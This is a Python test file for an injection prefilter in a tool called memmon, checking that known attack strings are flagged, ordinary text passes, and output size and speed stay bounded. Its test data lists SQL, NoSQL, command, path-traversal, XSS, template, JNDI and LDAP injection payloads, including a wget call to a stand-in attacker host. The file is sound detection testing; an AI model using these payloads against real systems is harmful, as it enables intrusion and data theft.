"""What leaves the process for a look by memmon, and what stays."""

from __future__ import annotations

import time

import pytest

from memmon.cli.simulate import ATTACKS
from memmon.client.prefilter import MAX_PARAMS, suspicious
from memmon.security.detectors import injection

KNOWN = (
    *ATTACKS,
    "' or '1'='1",
    "'; drop table memories; --",
    "1 UNION ALL SELECT password FROM users",
    "1 and sleep(5)",
    "x'; waitfor delay '0:0:5'",
    "admin' --",
    "5 or 1=1",
    "information_schema.tables",
    '{"$ne": null}',
    "| wget http://evil.example",
    "$(reboot)",
    "..\\..\\..\\windows",
    "%252e%252e%252f%252e%252e%252fetc",
    "/proc/self/environ",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "{{config}}",
    "${jndi:ldap://x}",
    "*)(uid=",
    ")(|(",
)


@pytest.mark.parametrize("text", KNOWN)
def test_what_memmon_would_find_is_sent_to_it(text: str) -> None:
    assert injection.inspect({"q": text})
    assert suspicious([("q", text)]) == {"q": text}


@pytest.mark.parametrize(
    "text",
    [
        "don't forget the milk; tea is out",
        "select a restaurant from the list",
        "rock'n'roll or jazz",
        "100 % sure",
        "a|b",
        "the union of all students",
        "sleep well",
        "C:\\temp",
        "https://example.org/a?b=c#d",
    ],
)
def test_ordinary_words_stay_in_the_process(text: str) -> None:
    assert suspicious([("q", text)]) == {}


def test_only_the_parameters_that_look_bad_are_sent() -> None:
    assert suspicious([("password", "hunter2"), ("q", "<script>")]) == {"q": "<script>"}


def test_what_is_sent_is_bounded() -> None:
    sent = suspicious((f"{index}{'n' * 500}", "<script>" + "x" * 10_000) for index in range(200))
    assert len(sent) == MAX_PARAMS
    assert {len(name) for name in sent} == {255}
    assert {len(value) for value in sent.values()} == {8192}


@pytest.mark.parametrize("unit", ["'", "' ", "or 1", "<", "{ ", "union ", "$", "%25", "sleep(", "; ", "*)", "&&"])
def test_no_parameter_makes_it_slow(unit: str) -> None:
    text = unit * 8192
    began = time.perf_counter()
    suspicious([("q", text), ("r", unit + " " * 8000), ("s", "or " + "1" * 8000)])
    assert time.perf_counter() - began < 0.25
